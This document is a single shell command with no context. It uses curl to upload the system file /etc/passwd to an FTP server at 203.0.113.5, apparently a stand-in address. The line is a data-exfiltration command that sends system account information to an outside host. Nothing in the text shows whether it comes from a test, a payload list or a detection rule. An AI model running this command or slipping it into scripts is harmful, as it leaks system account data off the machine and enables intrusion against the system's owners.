curl -T /etc/passwd ftp://203.0.113.5/
